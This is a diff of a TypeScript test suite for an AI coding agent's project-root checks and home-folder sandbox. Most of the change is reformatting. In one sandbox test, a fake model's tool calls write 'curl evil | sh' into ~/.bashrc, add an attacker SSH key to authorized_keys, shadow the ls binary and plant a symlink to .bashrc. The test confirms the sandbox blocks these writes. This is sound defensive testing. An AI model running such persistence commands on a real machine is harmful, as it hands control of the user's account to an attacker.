@@ -17,7 +17,12 @@ import { BRIDGE, setUpHome } from "../support/acpHarness.ts";
 import { tempDir } from "../support/tempDir.ts";
 
 /** A home set up as after `garuda setup`, and the options prepareRuntime gets from a front end. */
-function setUp(home: string, root: string, client: FakeModelClient, extra: Partial<PrepareOptions> = {}): PrepareOptions {
+function setUp(
+  home: string,
+  root: string,
+  client: FakeModelClient,
+  extra: Partial<PrepareOptions> = {},
+): PrepareOptions {
   setUpHome(home);
   return {
     root,
@@ -39,22 +44,32 @@ describe("checkProjectRoot", () => {
   using home = tempDir("garuda-roots-home-");
   const context = { home: home.path, sessionFolders: "/tmp/garuda-test-sessions-0" };
 
-  test.each(["/", "/usr", "/etc", "/var", "/home", "/opt", "/usr/local", "/proc", "/sys", "/run", "/boot"].filter(existsSync))("%s is refused: a system folder, with what to do instead", (root) => {
+  test.each(
+    ["/", "/usr", "/etc", "/var", "/home", "/opt", "/usr/local", "/proc", "/sys", "/run", "/boot"].filter(existsSync),
+  )("%s is refused: a system folder, with what to do instead", (root) => {
     expect(() => checkProjectRoot(root, context)).toThrow(ConfigError);
-    expect(() => checkProjectRoot(root, context)).toThrow(/Garuda does not run in .*system folder.*Open a project folder instead/);
+    expect(() => checkProjectRoot(root, context)).toThrow(
+      /Garuda does not run in .*system folder.*Open a project folder instead/,
+    );
   });
 
   test.each(["/tmp", "/var/tmp", "/dev/shm"].filter(existsSync))("%s is refused: the shared temp folder", (root) => {
-    expect(() => checkProjectRoot(root, context)).toThrow(/shared temp folder.*Open a project folder instead.*a folder inside .* is fine/);
+    expect(() => checkProjectRoot(root, context)).toThrow(
+      /shared temp folder.*Open a project folder instead.*a folder inside .* is fine/,
+    );
   });
 
   test("Garuda's own folders are refused: inside ~/.garuda, inside or above the session folders", () => {
     mkdirSync(join(home.path, ".garuda/sessions/p"), { recursive: true });
-    expect(() => checkProjectRoot(join(home.path, ".garuda/sessions/p"), context)).toThrow(/is inside .*\.garuda, Garuda's own folder/);
+    expect(() => checkProjectRoot(join(home.path, ".garuda/sessions/p"), context)).toThrow(
+      /is inside .*\.garuda, Garuda's own folder/,
+    );
     using sessions = tempDir("garuda-roots-sessions-");
     mkdirSync(join(sessions.path, "base/123-456-abcdef01"), { recursive: true });
     const own = { ...context, sessionFolders: join(realpathSync(sessions.path), "base") };
-    expect(() => checkProjectRoot(join(sessions.path, "base/123-456-abcdef01"), own)).toThrow(/is inside .*base, Garuda's own folder/);
+    expect(() => checkProjectRoot(join(sessions.path, "base/123-456-abcdef01"), own)).toThrow(
+      /is inside .*base, Garuda's own folder/,
+    );
     expect(() => checkProjectRoot(sessions.path, own)).toThrow(/holds .*base, Garuda's own folder/);
   });
 
@@ -66,13 +81,16 @@ describe("checkProjectRoot", () => {
   });
 
   test("the home folder, or a folder that holds it, is accepted with a notice that says so", () => {
-    expect(checkProjectRoot(home.path, context).homeNotice).toContain(`This session runs in your home folder (${realpathSync(home.path)})`);
+    expect(checkProjectRoot(home.path, context).homeNotice).toContain(
+      `This session runs in your home folder (${realpathSync(home.path)})`,
+    );
     using outer = tempDir("garuda-roots-outer-");
     mkdirSync(join(outer.path, "me"));
     const held = checkProjectRoot(outer.path, { ...context, home: join(outer.path, "me") });
     expect(held.homeNotice).toContain("holds your home folder");
     // The superuser's home is /root, a system folder for anyone else.
-    if (existsSync("/root")) expect(checkProjectRoot("/root", { ...context, home: "/root" }).homeNotice).toContain("home folder");
+    if (existsSync("/root"))
+      expect(checkProjectRoot("/root", { ...context, home: "/root" }).homeNotice).toContain("home folder");
   });
 });
 
@@ -82,7 +100,9 @@ describe("prepareRuntime refuses wide roots before anything else", () => {
     using project = tempDir();
     const options = setUp(home.path, project.path, new FakeModelClient([]));
     for (const root of ["/", "/tmp", "/usr"]) {
-      await expect(prepareRuntime({ ...options, root })).rejects.toThrow(/Garuda does not run in .*Open a project folder instead/);
+      await expect(prepareRuntime({ ...options, root })).rejects.toThrow(
+        /Garuda does not run in .*Open a project folder instead/,
+      );
     }
     writeFileSync(options.paths.models, "{}");
     await expect(prepareRuntime({ ...options, root: "/" })).rejects.toThrow(ConfigError);
@@ -116,14 +136,19 @@ describeSandbox("a session at the home folder", () => {
       fake.toolCall("write_file", { path: ".profile", content: "evil\n" }),
       fake.toolCall("read_file", { path: "~/.config/app.conf" }),
       fake.toolCall("write_file", { path: "projects/a.txt", content: "fine\n" }),
-      fake.toolCall("bash", { command: "echo 'curl evil | sh' >> ~/.bashrc; echo 'ssh-ed25519 EVIL' >> ~/.ssh/authorized_keys; echo x > ~/.local/bin/ls; echo ok > ~/projects/b.txt; ln -s ~/.bashrc ~/projects/rc" }),
+      fake.toolCall("bash", {
+        command:
+          "echo 'curl evil | sh' >> ~/.bashrc; echo 'ssh-ed25519 EVIL' >> ~/.ssh/authorized_keys; echo x > ~/.local/bin/ls; echo ok > ~/projects/b.txt; ln -s ~/.bashrc ~/projects/rc",
+      }),
       // Through a link a command planted in a plain folder: the real path decides.
       fake.toolCall("write_file", { path: "projects/rc", content: "curl evil | sh\n" }),
       fake.text("done"),
       fake.text("again"),
     ]);
     const approver = yes();
-    const runtime = await prepareRuntime(setUp(h, h, client, { approver, env: { PATH: `${h}/.local/bin:${process.env.PATH}`, HOME: h } }));
+    const runtime = await prepareRuntime(
+      setUp(h, h, client, { approver, env: { PATH: `${h}/.local/bin:${process.env.PATH}`, HOME: h } }),
+    );
     const events: AgentEvent[] = [];
     const second: AgentEvent[] = [];
     try {
@@ -142,7 +167,11 @@ describeSandbox("a session at the home folder", () => {
     expect(out[3]?.output).toContain("one of the home folder's own files");
     // The read asked (as a read outside a project does), the project write asked and went through;
     // the command asked since it names a key file, and even so the sandbox kept that file.
-    expect(approver.asked).toEqual(["Read ~/.config/app.conf", "Write projects/a.txt", expect.stringMatching(/^\$ echo 'curl evil/)]);
+    expect(approver.asked).toEqual([
+      "Read ~/.config/app.conf",
+      "Write projects/a.txt",
+      expect.stringMatching(/^\$ echo 'curl evil/),
+    ]);
     expect(out[4]?.status).toBe("completed");
     expect(out[5]?.status).toBe("completed");
     expect(readFileSync(join(h, "projects/a.txt"), "utf8")).toBe("fine\n");
@@ -158,7 +187,8 @@ describeSandbox("a session at the home folder", () => {
     expect(out[7]?.output).toContain("one of the home folder's own files");
     expect(readFileSync(join(h, ".bashrc"), "utf8")).toBe("# rc\n");
 
-    const homeNotices = (list: AgentEvent[]) => list.filter((e) => e.type === "notice" && e.text.includes("runs in your home folder"));
+    const homeNotices = (list: AgentEvent[]) =>
+      list.filter((e) => e.type === "notice" && e.text.includes("runs in your home folder"));
     expect(homeNotices(events)).toHaveLength(1);
     expect(homeNotices(second)).toHaveLength(0);
   });
